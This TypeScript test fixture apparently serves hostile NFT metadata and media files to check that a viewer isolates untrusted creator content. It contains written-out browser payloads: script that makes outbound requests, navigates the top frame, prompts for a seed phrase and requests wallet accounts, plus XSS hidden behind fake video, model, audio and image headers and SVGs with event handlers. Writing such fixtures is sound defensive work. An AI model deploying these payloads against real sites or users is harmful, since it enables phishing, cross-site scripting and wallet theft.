import type { RequestListener } from "node:http";
import { brokenBodies, forbiddenUris, hostileDocuments } from "../../service/testing/hostile-tokens";

/** What a program of an item's creator may try; `there` is a host that counts its requests. */
const greedyProgram = (there: string) => `<!doctype html><title>a</title><h1>a</h1><script>
  const tries = [
    () => fetch("${there}/fetch"), () => navigator.sendBeacon("${there}/beacon", "x"), () => new WebSocket("${there.replace("http", "ws")}"),
    () => { new Image().src = "${there}/picture" }, () => import("${there}/script.js"), () => { top.location.href = "${there}/top" },
    () => { parent.location.href = "${there}/parent" }, () => open("${there}/window"), () => alert(1), () => prompt("Your seed phrase"),
    () => parent.document.body.remove(), () => localStorage.clear(), () => top.ethereum.request({ method: "eth_requestAccounts" }),
    () => document.body.requestFullscreen(), () => { location.href = "${there}/itself" },
    () => { const form = document.createElement("form"); form.action = "${there}/form"; document.body.append(form); form.submit() },
    () => { for (let message = 0; message < 1000; message += 1) parent.postMessage({ type: "ready", height: 1e9, message: "x".repeat(1e4) }, "*") },
  ];
  for (const attempt of tries) try { Promise.resolve(attempt()).catch(() => {}) } catch {}
</script>`;
const endlessProgram = "<!doctype html><script>for (;;) {}</script>";
const refreshingProgram = (there: string) =>
  `<!doctype html><meta http-equiv="refresh" content="0;url=${there}/refresh"><base href="${there}/"><a href="x" autofocus>x</a>`;

const script = "<script>alert(1)</script>";
/** The beginning of a file of that type, by which it is taken for one. */
const film = `\u0000\u0000\u0000\u0018ftypmp42\u0000\u0000\u0000\u0000mp42isom${script}`;
const model = `glTF\u0002\u0000\u0000\u0000\u00ff\u00ff\u00ff\u007f${script}`;
const svg = (inside: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">${inside}</svg>`;

interface File {
  type: string;
  body: string;
}

/** Files that hostile tokens name as their picture or animation. */
function filesOf(there: string): Record<string, File> {
  return {
    "program.html": { type: "text/html", body: greedyProgram(there) },
    "endless.html": { type: "text/html", body: endlessProgram },
    "refreshing.html": { type: "text/html", body: refreshingProgram(there) },
    "film.mp4": { type: "video/mp4", body: film },
    "film.html": { type: "video/mp4", body: greedyProgram(there) },
    "page.webm": { type: "text/html", body: `\u001aE\u00df\u00a3${script}` },
    "sound.mp3": { type: "audio/mpeg", body: `ID3\u0004\u0000\u0000\u0000\u0000\u0000\u0000${script}` },
    "model.glb": { type: "model/gltf-binary", body: model },
    "script.svg": {
      type: "image/svg+xml",
      body: svg(`${script}<rect width="9" height="9" onclick="alert(1)"/>`),
    },
    "outside.svg": {
      type: "image/svg+xml",
      body: svg(
        `<image xlink:href="${there}/svg" width="9" height="9"/><style>@import "${there}/style";</style>`,
      ),
    },
    "foreign.svg": {
      type: "image/svg+xml",
      body: svg(`<foreignObject width="9" height="9"><iframe src="${there}/frame"/></foreignObject>`),
    },
    "page.png": { type: "image/png", body: `<!doctype html>${script}` },
  };
}

const isPicture = (name: string) => /\.(svg|png)$/.test(name);

/** A kind of hostile token, by the words of its catalogue, and the metadata that it answers. */
export interface HostileToken {
  kind: string;
  body: string;
}

const textOf = (document: unknown) => (typeof document === "string" ? document : JSON.stringify(document));

/** Every kind that this project knows: metadata, addresses in it, broken bodies, and files. */
export function hostileTokens(there: string): HostileToken[] {
  const documents = Object.entries(hostileDocuments).map(([kind, document]) => ({
    kind,
    body: textOf(document),
  }));
  const broken = Object.entries(brokenBodies).map(([kind, body]) => ({ kind: `a body of ${kind}`, body }));
  const addresses = Object.entries(forbiddenUris).map(([kind, uri]) => ({
    kind: `an address: ${kind}`,
    body: JSON.stringify({ name: kind, image: uri, animation_url: uri, external_url: uri, description: uri }),
  }));
  const files = Object.keys(filesOf(there)).map((name) => ({
    kind: `a file: ${name}`,
    body: JSON.stringify({
      name,
      [isPicture(name) ? "image" : "animation_url"]: `ipfs://test/files/${name}`,
    }),
  }));
  return [...documents, ...broken, ...addresses, ...files];
}

/** Answers the metadata of tokens from the number `first` on, and their files. Other tokens have a name alone. */
export function answerHostile(
  tokens: readonly HostileToken[],
  there: string,
  first: number,
): RequestListener {
  const files = filesOf(there);
  return ({ url = "" }, response) => {
    const name = url.split("/").at(-1) ?? "";
    const file = url.includes("/files/") ? files[name] : undefined;
    if (file !== undefined) {
      response.writeHead(200, { "content-type": file.type }).end(Buffer.from(file.body, "latin1"));
      return;
    }
    const body = tokens[Number(name) - first]?.body ?? JSON.stringify({ name: `Ship ${name}` });
    response.writeHead(200, { "content-type": "application/json" }).end(body);
  };
}
